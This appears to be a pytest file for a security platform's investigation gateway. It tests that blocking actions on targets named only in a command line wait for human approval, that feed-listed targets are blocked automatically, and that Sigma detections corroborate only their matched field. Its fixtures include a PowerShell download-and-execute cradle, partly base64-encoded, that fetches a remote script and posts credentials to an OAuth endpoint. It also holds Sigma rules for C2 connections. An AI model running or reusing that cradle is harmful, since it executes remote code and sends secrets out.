"""Automatic containment needs corroboration, through the gateway in active mode with the
built-in guardrail policy and real specialists: a target only a command line names waits for a
human; one the threat-intel feed lists runs; a detection of the platform's own rules
corroborates only the field it matched on."""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select

from core.security.permissions import Role
from core.settings import Settings
from gateway.investigations.models import ResponseActionRecord
from gateway.keys import BUS, DATABASE
from tests.conftest import Gateway, start_gateway
from tests.gateway.investigations.test_approvals import approvals_ws, go_active, next_of
from tests.gateway.investigations.test_investigations import configured, wait_done
from tests.orchestrator.test_graph import attack, fleet  # noqa: F401 - fixtures

ATTACKER = "45.33.32.200"  # no feed lists it
LISTED = "45.33.32.156"  # the test feed lists it (high, confidence 85)
LOGIN = "login.microsoftonline.com"
COMMAND_LINE = (
    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
    f"'http://{ATTACKER}/a.ps1'); Invoke-WebRequest -Uri https://{LOGIN}/common/oauth2/token "
    '-Method POST -Body $creds"'
)


@pytest.fixture
async def platform(settings: Settings, fleet: dict[str, Any]) -> AsyncIterator[Gateway]:  # noqa: F811
    client = await start_gateway(configured(settings, fleet))  # the built-in policy
    try:
        gateway = Gateway(client)
        await go_active(gateway)
        yield gateway
    finally:
        await client.close()


async def ledger(gateway: Gateway) -> list[ResponseActionRecord]:
    async with gateway.app[DATABASE].session() as db:
        return list(
            await db.scalars(select(ResponseActionRecord).order_by(ResponseActionRecord.key))
        )


async def investigate(gateway: Gateway, headers: dict[str, str], body: dict[str, Any]) -> str:
    response = await gateway.client.post("/api/v1/agents/investigate", headers=headers, json=body)
    assert response.status == 202, await response.json()
    return str((await response.json())["id"])


async def test_what_only_a_command_line_names_is_never_contained_without_a_human(
    platform: Gateway,
) -> None:
    analyst = await platform.user(Role.ANALYST, "ana")
    rita = await platform.user(Role.RESPONDER, "rita")
    executed = platform.app[BUS].subscribe("response.actions")
    async with approvals_ws(platform, rita) as ws:
        assert (await ws.receive_json())["type"] == "pending"
        investigation_id = await investigate(
            platform,
            analyst,
            {
                "command_lines": [COMMAND_LINE],
                "iocs": [{"type": "ip", "value": ATTACKER}, {"type": "domain", "value": LOGIN}],
            },
        )
        asked: dict[tuple[str, str], dict[str, Any]] = {}
        while len(asked) < 4:
            request = await next_of(ws, "approval_requested", within=60)
            asked[(request["action"], request["target"])] = request
        assert set(asked) == {
            ("block_ip", ATTACKER),
            ("block_domain", LOGIN),
            ("block_url", f"http://{ATTACKER}/a.ps1"),
            ("block_url", f"https://{LOGIN}/common/oauth2/token"),
        }
        # nothing was contained while the humans decide
        assert executed.drain() == []
        assert await ledger(platform) == []
        for request in asked.values():
            guardrail = request["guardrail"]
            assert (guardrail["decision"], guardrail["outcome"]) == (
                "require_approval",
                "await_approval",
            )
            assert "uncorroborated" in guardrail["rules"]
            assert any("no independent source corroborates" in r for r in guardrail["reasons"])
            assert request["provenance"]["corroboration"] == "none"
            assert request["provenance"]["corroborated_by"] == []
            assert request["provenance"]["origin"] == [
                {"agent": "malware", "kind": "command_line", "ref": "command_lines[0]"}
            ]
        # Microsoft's sign-in service is a human's call even were it corroborated
        assert "shared_service" in asked[("block_domain", LOGIN)]["guardrail"]["rules"]
        for approval in asked.values():
            await ws.send_json(
                {"type": "decide", "approval_id": approval["approval_id"], "decision": "deny"}
            )
            assert (await next_of(ws, "decided"))["approval"]["status"] == "denied"
    done = await wait_done(platform, analyst, investigation_id)
    assert executed.drain() == []
    executed.close()
    assert done["status"] == "completed"
    actions = {(a["action"], a["target"]): a for a in done["receipt"]["actions"]}
    for key in asked:
        action = actions[key]
        assert action["status"] == "denied"
        assert action["error"]["code"] == "AURORA-4031"
        assert action["approval"]["by"] == "rita"
        # the receipt says none corroborated it and a human was required
        assert action["provenance"]["corroboration"] == "none"
        assert action["provenance"]["human_required"] is True
    assert await ledger(platform) == []


async def test_a_target_the_threat_intel_feed_lists_is_contained_without_waiting(
    platform: Gateway,
) -> None:
    analyst = await platform.user(Role.ANALYST, "ana")
    executed = platform.app[BUS].subscribe("response.actions")
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{LISTED}/a.ps1')"
    encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
    investigation_id = await investigate(
        platform,
        analyst,
        {
            "command_lines": [f"powershell.exe -nop -w hidden -enc {encoded}"],
            "iocs": [{"type": "ip", "value": LISTED}],
        },
    )
    done = await wait_done(platform, analyst, investigation_id)
    published = [event.payload for event in executed.drain()]
    executed.close()
    assert done["status"] == "completed", done
    actions = {(a["action"], a["target"]): a for a in done["receipt"]["actions"]}
    blocked = actions[("block_ip", LISTED)]
    assert blocked["status"] == "executed"
    assert "approval" not in blocked  # no human was asked
    assert blocked["provenance"]["corroboration"] == "corroborated"
    assert blocked["provenance"]["human_required"] is False
    assert [
        (c["agent"], c["kind"], c["source"]) for c in blocked["provenance"]["corroborated_by"]
    ] == [("threat_intel", "threat_intel", "feed")]
    # the narrower block of a URL on the listed host is corroborated by the host's listing
    assert actions[("block_url", f"http://{LISTED}/a.ps1")]["status"] == "executed"
    assert {(e["action"], e["target"]) for e in published} == {
        ("block_ip", LISTED),
        ("block_url", f"http://{LISTED}/a.ps1"),
    }
    # the integrations and the ledger learn what corroborated each
    assert all(e["corroborated_by"] and e["approved_by"] is None for e in published)
    rows = {r.action: r for r in await ledger(platform)}
    assert rows["block_ip"].status == "executed"
    assert rows["block_ip"].detail["corroborated_by"] == [
        f"threat_intel: threat_intel (feed) on ip {LISTED}"
    ]


NOW = datetime.now(UTC).replace(microsecond=0)
C2_RULE = """
title: Connection to a known C2 address
logsource: {product: windows, category: network_connection}
detection:
  sel: {DestinationIp: '45.33.32.200'}
  condition: sel
level: high
"""
POWERSHELL_RULE = """
title: PowerShell network connection
logsource: {product: windows, category: network_connection}
detection:
  sel: {Image|endswith: '\\\\powershell.exe'}
  condition: sel
level: medium
"""


async def test_a_platform_detection_corroborates_only_the_field_its_rule_matched(
    platform: Gateway,
) -> None:
    admin = await platform.login("root")  # go_active made it
    event = {
        "EventID": 3,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "ws-17",
        "TimeCreated": (NOW - timedelta(minutes=5)).isoformat(),
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "User": "CORP\\alice",
        "SourceIp": "10.1.2.3",
        "SourcePort": 50123,
        "DestinationIp": ATTACKER,
        "DestinationPort": 443,
        "Protocol": "tcp",
    }
    ingested = await platform.client.post(
        "/api/v1/siem/logs/ingest",
        headers={**admin, "Content-Type": "application/x-ndjson"},
        data=json.dumps(event),
    )
    assert (await ingested.json())["accepted"] == 1
    window = {
        "start": (NOW - timedelta(hours=1)).isoformat(),
        "end": (NOW + timedelta(minutes=1)).isoformat(),
        "mode": "backfill",
    }
    subjects = {}
    for name, sigma in (("c2", C2_RULE), ("powershell", POWERSHELL_RULE)):
        created = await platform.client.post(
            "/api/v1/detections/rules", headers=admin, json={"sigma": sigma}
        )
        rule = await created.json()
        assert created.status == 201, rule
        run = await platform.client.post(
            f"/api/v1/detections/rules/{rule['id']}/run", headers=admin, json=window
        )
        assert (await run.json())["alerts"] == 1
        alerts = await (
            await platform.client.get(f"/api/v1/alerts?rule_id={rule['id']}", headers=admin)
        ).json()
        [alert] = alerts["items"]
        assert {"type": "ip", "value": ATTACKER} in [
            {k: e[k] for k in ("type", "value")} for e in alert["entities"]
        ]
        investigation_id = await investigate(platform, admin, {"alert_id": alert["id"]})
        found = await (
            await platform.client.get(f"/api/v1/investigations/{investigation_id}", headers=admin)
        ).json()
        subjects[name] = found["subject"]["corroborations"]
    # the C2 rule tests the destination address: it corroborates it
    [c2] = subjects["c2"]
    assert (c2["type"], c2["value"], c2["kind"]) == ("ip", ATTACKER, "telemetry")
    assert "matched on destination.ip" in c2["detail"]
    # the PowerShell rule judged the process: the address it happened to reach is not vouched for
    assert subjects["powershell"] == []
    # an alert posted through the API, whatever its source says, is no platform detection
    posted = await platform.client.post(
        "/api/v1/alerts",
        headers=admin,
        json={
            "title": "Connection to a known C2 address",
            "source": "sigma",
            "severity": "high",
            "entities": [{"type": "ip", "value": ATTACKER}],
        },
    )
    investigation_id = await investigate(platform, admin, {"alert_id": (await posted.json())["id"]})
    found = await (
        await platform.client.get(f"/api/v1/investigations/{investigation_id}", headers=admin)
    ).json()
    assert found["subject"]["corroborations"] == []
